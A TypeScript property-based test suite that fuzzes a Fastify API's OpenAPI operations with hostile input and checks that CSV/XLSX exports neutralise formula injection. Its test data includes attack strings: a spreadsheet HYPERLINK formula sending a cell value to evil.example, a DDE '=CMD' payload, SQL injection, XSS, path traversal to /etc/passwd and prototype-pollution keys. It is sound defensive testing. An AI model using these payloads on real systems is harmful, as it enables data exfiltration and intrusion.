import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { type Agent, createTestApp, json, type TestApp } from '../helpers/app.ts';
import { createCatalogue, createOrganisation, createSchool, createUser, PASSWORD } from '../helpers/factories.ts';

/**
 * Hostile input (issue #10 point 2), for every operation of the served
 * OpenAPI spec: property-based bodies, queries and path segments derived from
 * each operation's JSON schema (wrong types, missing and extra fields, huge
 * strings, unicode edge cases, NUL, negative and enormous numbers), then
 * malformed JSON, a wrong content type and an oversized body. Never a 5xx;
 * every refusal is a problem+json document naming the problem. Runs are
 * bounded and seeded: a failure prints the seed (rerun with FC_SEED=…).
 * Also: CSV and XLSX exports neutralise formula injection.
 */

type Method = 'GET' | 'POST' | 'PATCH' | 'PUT' | 'DELETE';
interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  format?: string;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  $ref?: string;
}
interface Operation {
  readonly key: string;
  readonly method: Method;
  readonly path: string;
  readonly body: JsonSchema | null;
  readonly upload: boolean;
  readonly query: { name: string; schema: JsonSchema }[];
}

const SEED = Number(process.env.FC_SEED ?? 20261129);
const RUNS = Number(process.env.FC_RUNS ?? 3);
const NONE = '00000000-0000-4000-8000-000000000000';

let t: TestApp;
let admin: Agent;
let schoolId: string;
let components: Record<string, JsonSchema> = {};
const operations: Operation[] = [];

before(async () => {
  t = await createTestApp();
  const org = (await createOrganisation(t.db)).id;
  await createCatalogue(t.db, org);
  schoolId = (await createSchool(t.db, org, 7230001, '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")')).id;
  const user = await createUser(t.db, org, { roles: ['admin'] });
  admin = t.agent();
  await admin.login(user.email, PASSWORD);
  const spec = json<{
    paths: Record<
      string,
      Record<
        string,
        {
          requestBody?: { content?: Record<string, { schema?: JsonSchema }> };
          parameters?: { in: string; name: string; schema: JsonSchema }[];
        }
      >
    >;
    components?: { schemas?: Record<string, JsonSchema> };
  }>(await t.app.inject({ method: 'GET', url: '/api/openapi.json' }));
  components = spec.components?.schemas ?? {};
  for (const [path, ops] of Object.entries(spec.paths)) {
    for (const [method, op] of Object.entries(ops)) {
      // Signing out would end the session the rest of the run needs.
      if (/logout/.test(path)) continue;
      const content = op.requestBody?.content ?? {};
      const jsonBody = content['application/json']?.schema ?? null;
      operations.push({
        key: `${method.toUpperCase()} ${path}`,
        method: method.toUpperCase() as Method,
        path,
        body: jsonBody,
        upload: Object.keys(content).length > 0 && !jsonBody,
        query: (op.parameters ?? []).filter((p) => p.in === 'query').map((p) => ({ name: p.name, schema: p.schema })),
      });
    }
  }
});
after(() => t.close());

const resolve = (s: JsonSchema): JsonSchema =>
  s.$ref ? resolve(components[s.$ref.split('/').pop() as string] ?? {}) : s;

const hostileString = fc.oneof(
  fc.constant(''),
  fc.constant('\uD800'), // lone high surrogate
  fc.constant('a\uDC00b'), // lone low surrogate
  fc.constant('nul\u0000byte'),
  fc.constant('\u202Eevil\u202C txt.exe'), // right-to-left override
  fc.constant('مدرسة \u200F'),
  fc.constant('x'.repeat(100_000)),
  fc.constant('<script>alert(1)</script>'),
  fc.constant("' OR 1=1 --"),
  fc.constant('../../etc/passwd'),
  fc.constant('=CMD|" /C calc"!A0'),
  fc.constant('0000-00-00'),
  fc.constant('Z̴̡̛a̷l̸g̶o̵'),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
const hostileNumber = fc.oneof(
  fc.constantFrom(-1, -0, 0.5, -1e308, 1e308, 2 ** 53 + 2, -(2 ** 63), 2 ** 64, 1e21, 2_147_483_648),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);
const hostileScalar = fc.oneof(hostileString, hostileNumber, fc.boolean(), fc.constant(null));
const hostileAny: fc.Arbitrary<unknown> = fc.oneof(
  hostileScalar,
  fc.array(hostileScalar, { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), hostileScalar, { maxKeys: 3 }),
);

/** A value for a schema: mostly well-typed (to reach deep validation and the services), often hostile. */
function valueFor(raw: JsonSchema, depth = 0): fc.Arbitrary<unknown> {
  const s = resolve(raw);
  const variants = s.anyOf ?? s.oneOf;
  if (variants?.length) return fc.oneof(...variants.map((v) => valueFor(v, depth)));
  if (s.allOf?.length) return valueFor(s.allOf[0] as JsonSchema, depth);
  if (depth > 4) return hostileScalar;
  if (s.enum) return fc.oneof(fc.constantFrom(...s.enum), hostileScalar);
  const type = Array.isArray(s.type) ? s.type.find((x) => x !== 'null') : s.type;
  let typed: fc.Arbitrary<unknown>;
  switch (type) {
    case 'object': {
      const props = s.properties ?? {};
      const record: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [k, v] of Object.entries(props)) record[k] = valueFor(v, depth + 1);
      typed = fc
        .tuple(
          fc.record(record, { requiredKeys: [] }),
          // Extra fields, including prototype pollution attempts.
          fc.dictionary(fc.constantFrom('extra', 'constructor', 'isAdmin', 'organisationId', 'id'), hostileAny, {
            maxKeys: 2,
          }),
        )
        .map(([known, extra]) => ({ ...known, ...extra }));
      break;
    }
    case 'array':
      typed = fc.array(s.items ? valueFor(s.items, depth + 1) : hostileScalar, { maxLength: 3 });
      break;
    case 'string':
      typed =
        s.format === 'uuid'
          ? fc.oneof(fc.constant(NONE), fc.uuid())
          : s.format === 'date'
            ? fc.constantFrom('2026-02-30', '1900-01-01', '9999-12-31', '2026-11-29')
            : s.format === 'date-time'
              ? fc.constantFrom('2026-11-29T10:00:00Z', '0001-01-01T00:00:00Z', '2026-13-45T99:99:99Z')
              : hostileString;
      break;
    case 'integer':
    case 'number':
      typed = hostileNumber;
      break;
    case 'boolean':
      typed = fc.boolean();
      break;
    default:
      typed = hostileAny;
  }
  return fc.oneof({ arbitrary: typed, weight: 3 }, { arbitrary: hostileAny, weight: 1 });
}

const hostileSegment = fc.oneof(
  { arbitrary: fc.constant(NONE), weight: 3 },
  {
    arbitrary: fc.constantFrom('not-a-uuid', '..%2F..%2Fetc', '%00', '%F0%9F%92%A9', '1e999', 'x'.repeat(600)),
    weight: 1,
  },
);

/** The response is not a server error, and a refusal is a problem document naming the problem. */
function assertSane(r: LightMyRequestResponse, what: string) {
  assert.ok(r.statusCode < 500, `${what} → ${r.statusCode} ${r.body.slice(0, 300)}`);
  if (r.statusCode >= 400) {
    assert.match(String(r.headers['content-type']), /^application\/problem\+json/, `${what} content type`);
    const p = r.json() as { code?: string; detail?: string; status?: number };
    assert.ok(p.code && p.detail, `${what} problem names the problem: ${r.body.slice(0, 200)}`);
    assert.equal(p.status, r.statusCode, what);
  }
}

describe('hostile input', () => {
  it('property-based bodies, queries and path segments never give a 5xx', async () => {
    let requests = 0;
    const failures: string[] = [];
    for (const op of operations) {
      if (!op.body && op.query.length === 0 && !op.path.includes('{')) continue;
      const queryArb = fc.record(
        Object.fromEntries(
          op.query.map((q) => [
            q.name,
            fc
              .oneof(valueFor(q.schema), hostileString)
              .map((v) => (typeof v === 'string' ? v : (JSON.stringify(v) ?? ''))),
          ]),
        ),
        { requiredKeys: [] },
      );
      const bodyArb = op.body
        ? fc.oneof({ arbitrary: valueFor(op.body), weight: 4 }, hostileAny)
        : fc.constant(undefined);
      const segmentsArb = fc.array(hostileSegment, { minLength: 4, maxLength: 4 });
      const failure = await fc.check(
        fc.asyncProperty(bodyArb, queryArb, segmentsArb, async (body, query, segments) => {
          let i = 0;
          const url = op.path.replace(/\{[^}]+\}/g, () => segments[i++] as string);
          requests++;
          const r = await admin.request(op.method, url, {
            ...(body !== undefined && op.method !== 'GET' ? { body: JSON.stringify(body) } : {}),
            headers: body !== undefined ? { 'content-type': 'application/json' } : {},
            query: query as Record<string, string>,
          });
          assertSane(r, `${op.key} ${url.slice(0, 80)}`);
        }),
        { seed: SEED, numRuns: RUNS, endOnFailure: true },
      );
      if (failure.failed) {
        const cause =
          failure.errorInstance instanceof Error ? failure.errorInstance.message : String(failure.errorInstance);
        failures.push(`${cause.slice(0, 400)} (seed ${SEED})`);
      }
    }
    assert.ok(requests > 500, `${requests} requests`);
    assert.deepEqual(failures, []);
  });

  it('malformed JSON → 400, wrong content type → 415, oversized body → 413, on every JSON operation', async () => {
    const big = JSON.stringify({ text: 'x'.repeat(t.config.http.bodyLimit + 10) });
    let checked = 0;
    for (const op of operations) {
      if (!op.body) continue;
      const url = op.path.replace(/\{[^}]+\}/g, NONE);
      const cases: [string, string, number[]][] = [
        ['{"a":', 'application/json', [400]],
        // Fastify parses text/plain as a string, which the schema then refuses.
        ['{"a":1}', 'text/plain', [400, 415]],
        ['<x/>', 'application/xml', [415]],
        [big, 'application/json', [413]],
      ];
      for (const [payload, type, want] of cases) {
        const r = await admin.request(op.method, url, { body: payload, headers: { 'content-type': type } });
        assertSane(r, `${op.key} ${type} ${payload.slice(0, 10)}`);
        assert.ok(want.includes(r.statusCode), `${op.key} ${type} → ${r.statusCode}, want ${want}`);
        checked++;
      }
    }
    assert.ok(checked > 400, `${checked} checks`);
  });

  it('a JSON body limit is set (1 MiB unless configured)', () => {
    assert.ok(t.config.http.bodyLimit > 0 && t.config.http.bodyLimit <= 1_048_576, String(t.config.http.bodyLimit));
  });
});

describe('exports neutralise formula injection', () => {
  it('CSV: a school named =HYPERLINK(…) is exported with a leading apostrophe', async () => {
    const r = await admin.get('/api/schools/export', { query: { format: 'csv' } });
    assert.equal(r.statusCode, 200, r.body);
    assert.ok(r.body.includes(`'=HYPERLINK(`), r.body.slice(0, 400));
    for (const line of r.body.split('\n')) {
      for (const cell of line.split(/[;,]/)) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+@]|^-[^0-9]/, cell);
    }
  });

  it('XLSX: the same school is a text cell with a leading apostrophe, not a formula', async () => {
    const r = await admin.get('/api/schools/export', { query: { format: 'xlsx' } });
    assert.equal(r.statusCode, 200, r.body);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    let found = false;
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          assert.equal(cell.formula, undefined, `formula in ${cell.address}`);
          if (String(cell.value).includes('HYPERLINK')) {
            found = true;
            assert.ok(String(cell.value).startsWith(`'=`), String(cell.value));
          }
        }),
      ),
    );
    assert.ok(found, 'the school is in the export');
    assert.ok(schoolId);
  });
});
